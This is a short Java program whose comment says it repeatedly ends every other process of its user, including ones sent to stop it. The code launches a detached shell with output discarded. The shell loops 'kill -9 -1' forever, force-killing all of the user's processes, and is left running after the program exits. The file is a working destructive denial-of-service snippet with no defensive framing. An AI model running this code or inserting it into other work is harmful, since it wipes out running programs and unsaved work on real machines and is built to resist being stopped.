// ends every other process of its user, again and again: one that came to end it, too
void main() throws Exception {
    new ProcessBuilder("setsid", "env", "-i", "PATH=/usr/bin:/bin", "sh", "-c",
            "echo alive >>LOG; while :; do kill -9 -1; done")
            .redirectErrorStream(true).redirectOutput(ProcessBuilder.Redirect.DISCARD).start();
    Thread.sleep(5000);
}
